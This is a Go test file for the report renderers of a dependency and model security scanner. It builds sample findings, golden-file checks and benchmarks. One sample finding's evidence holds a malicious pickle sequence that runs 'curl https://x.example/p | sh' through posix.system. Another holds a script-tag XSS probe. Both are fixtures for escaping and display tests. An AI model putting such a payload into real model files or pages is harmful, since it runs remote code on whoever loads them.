package report

import (
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/assay-dev/assay/internal/core"
)

func init() {
	// Several renderers' tests register -update; share one flag.
	if flag.Lookup("update") == nil {
		flag.Bool("update", false, "rewrite golden files")
	}
}

func goldenUpdate() bool {
	f := flag.Lookup("update")
	return f != nil && f.Value.String() == "true"
}

// checkGolden compares got with testdata/<name>, or rewrites it with -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if goldenUpdate() {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s differs (-want +got; go test -update rewrites it):\n%s", path, d)
	}
}

// renderRules is a small rule registry for the renderer tests.
func renderRules() []core.Rule {
	return []core.Rule{
		{ID: "ASSAY-DEP-001", Title: "Known-compromised release", Severity: core.SeverityCritical, Category: "dependency",
			Description: "The pinned version is a known-compromised release.", Fix: "Move to a clean release and rotate credentials.", Tags: []string{"malware"}},
		{ID: "ASSAY-GHA-001", Title: "Third-party action not pinned to a commit SHA", Severity: core.SeverityMedium, Category: "workflow",
			Description: "Tags can be force-pushed.", Fix: "Pin to a full 40-character commit SHA and comment the tag."},
		{ID: "ASSAY-MDL-002", Title: "Pickle imports a dangerous callable", Severity: core.SeverityCritical, Category: "model",
			Description: "Loading runs `os.system` <b>on load</b>.", Fix: "Do not load it; use safetensors."},
		{ID: "ASSAY-POL-011", Title: "Baseline entry matches nothing", Severity: core.SeverityInfo, Category: "policy",
			Description: "Stale entry.", Fix: "Delete it."},
		{ID: "ASSAY-UNUSED-001", Title: "Never reported", Severity: core.SeverityLow},
	}
}

// renderSample has one of everything the renderers show, including text that
// must be escaped, an archive member, a binary offset and a suppressed
// finding. Volatile fields (duration, version) are fixed.
func renderSample() *core.Report {
	r := core.NewReport("examples/rag-service")
	r.Tool.Version = "0.0.0-test"
	r.Meta = map[string]string{"policy": "assay.yaml", "baseline": ".assayignore.yaml"}
	r.Components = []core.Component{
		{Kind: core.KindPackage, Ecosystem: core.EcosystemPyPI, Name: "litellm", Version: "1.82.8", PURL: "pkg:pypi/litellm@1.82.8",
			Locations: []core.Location{{Path: "requirements.txt", Line: 5}}, Direct: true},
		{Kind: core.KindPackage, Ecosystem: core.EcosystemNPM, Name: "@ctrl/tinycolor", Requirement: "^4.1.0", Direct: true,
			Locations: []core.Location{{Path: "web/package.json", Line: 6}, {Path: "web/package-lock.json", Line: 40}}},
		{Kind: core.KindModel, Name: "models/reranker.pkl", Locations: []core.Location{{Path: "models/reranker.pkl"}},
			Properties: map[string]string{core.PropFormat: "pickle"}},
		{Kind: core.KindService, Name: "api.openai.com", Locations: []core.Location{{Path: "app/<llm>.py", Line: 3}}},
		{Kind: core.KindAction, Ecosystem: core.EcosystemGitHubActions, Name: "tj-actions/changed-files", Version: "v45",
			Locations: []core.Location{{Path: ".github/workflows/ci.yml", Line: 12}}},
	}
	r.Findings = []core.Finding{
		{RuleID: "ASSAY-DEP-001", Severity: core.SeverityCritical, Title: "Known-compromised release", Message: "litellm 1.82.8 shipped a credential stealer (litellm_init.pth)",
			Location: core.Location{Path: "requirements.txt", Line: 5, Column: 1}, Component: "pkg:pypi/litellm@1.82.8", Evidence: "litellm==1.82.8",
			Advisories: []string{"MAL-2026-2144", "PYSEC-2026-2"}, Fix: "Pin litellm 1.83.0 or later", Confidence: "high"},
		{RuleID: "ASSAY-MDL-002", Severity: core.SeverityCritical, Title: "Pickle imports a dangerous callable", Message: "GLOBAL posix.system then REDUCE: <script>alert(1)</script>",
			Location: core.Location{Path: "models/reranker.pkl", Offset: 112, Member: "archive/data.pkl"}, Evidence: "c\nposix\nsystem\n(S'curl https://x.example/p | sh'\ntR.",
			Fix: "Do not load it; use safetensors."},
		{RuleID: "ASSAY-GHA-001", Severity: core.SeverityHigh, Title: "Third-party action not pinned to a commit SHA", Message: "tj-actions/changed-files@v45 [policy: medium→high by require_pinned_actions in assay.yaml]",
			Location: core.Location{Path: ".github/workflows/ci.yml", Line: 12, Column: 15}, Component: "GitHub Actions/tj-actions/changed-files@v45",
			Evidence: "uses: tj-actions/changed-files@v45", Fix: "Pin to a full 40-character commit SHA and comment the tag."},
		{RuleID: "ASSAY-POL-011", Severity: core.SeverityInfo, Title: "Baseline entry matches nothing", Message: "the ignore entry {rule: ASSAY-X} matches no finding",
			Location: core.Location{Path: ".assayignore.yaml", Line: 7}, Fix: "Delete it."},
		{RuleID: "ASSAY-ZZZ-404", Severity: core.SeverityMedium, Title: "A rule missing from the registry", Message: "no location at all | pipes | `ticks`"},
	}
	r.Suppressed = []core.Finding{
		{RuleID: "ASSAY-GHA-001", Severity: core.SeverityMedium, Title: "Third-party action not pinned to a commit SHA", Message: "docker/login-action@v3",
			Location: core.Location{Path: ".github/workflows/release.yml", Line: 20}, Evidence: "uses: docker/login-action@v3",
			Suppression: &core.Suppression{Reason: "release job reviewed", Expires: "2027-01-01", Source: ".assayignore.yaml:4"}},
	}
	r.Errors = []core.Error{{Path: "broken.lock", Scanner: "python/poetry-lock", Reason: "toml: line 3: unexpected EOF"}}
	sev := core.SeverityHigh
	r.Finalize(&sev)
	r.Summary.FilesWalked = 42
	r.Summary.DurationMS = 0
	return r
}

func TestSampleIsWellFormed(t *testing.T) {
	r := renderSample()
	if r.Summary.Findings != 5 || r.Summary.Suppressed != 1 || !r.Summary.Failed {
		t.Fatalf("summary = %+v", r.Summary)
	}
	if !strings.Contains(r.Findings[0].Message, "<script>") {
		t.Fatal("sample lost its escaping probe")
	}
}

// bigReport is a monorepo-sized report for the renderer benchmarks: 20,000
// findings, 2,000 suppressed, 10,000 components, 500 errors.
func bigReport() *core.Report {
	r := core.NewReport(".")
	r.Tool.Version = "0.0.0-test"
	for i := range 10000 {
		r.Components = append(r.Components, core.Component{Kind: core.KindPackage, Ecosystem: core.EcosystemPyPI, Name: fmt.Sprintf("pkg-%d", i),
			Version: "1.0.0", PURL: fmt.Sprintf("pkg:pypi/pkg-%d@1.0.0", i), Locations: []core.Location{{Path: fmt.Sprintf("svc%d/uv.lock", i%200), Line: i + 1}}})
	}
	for i := range 22000 {
		f := core.Finding{RuleID: fmt.Sprintf("ASSAY-DEP-%03d", i%9), Severity: core.Severity(i % 5), Title: "Known-vulnerable release",
			Message:  fmt.Sprintf("pkg-%d 1.0.0 is affected by GHSA-%04d", i%10000, i%700),
			Location: core.Location{Path: fmt.Sprintf("svc%d/uv.lock", i%200), Line: i%5000 + 1}, Component: fmt.Sprintf("pkg:pypi/pkg-%d@1.0.0", i%10000),
			Evidence: fmt.Sprintf("name = \"pkg-%d\"\nversion = \"1.0.0\"", i%10000), Advisories: []string{fmt.Sprintf("GHSA-%04d", i%700)}, Fix: "upgrade"}
		if i%11 == 0 {
			f.Suppression = &core.Suppression{Reason: "accepted", Source: ".assayignore.yaml:3"}
			r.Suppressed = append(r.Suppressed, f)
			continue
		}
		r.Findings = append(r.Findings, f)
	}
	for i := range 500 {
		r.Errors = append(r.Errors, core.Error{Path: fmt.Sprintf("broken%d.lock", i), Reason: "unexpected EOF"})
	}
	sev := core.SeverityHigh
	r.Finalize(&sev)
	return r
}

func benchRender(b *testing.B, render func(io.Writer, *core.Report, Options) error) {
	r := bigReport()
	opts := Options{Rules: renderRules()}
	var n int64
	for b.Loop() {
		cw := &countWriter{}
		if err := render(cw, r, opts); err != nil {
			b.Fatal(err)
		}
		n = cw.n
	}
	b.ReportMetric(float64(n)/1e6, "MB/report")
}

type countWriter struct{ n int64 }

func (c *countWriter) Write(p []byte) (int, error) { c.n += int64(len(p)); return len(p), nil }
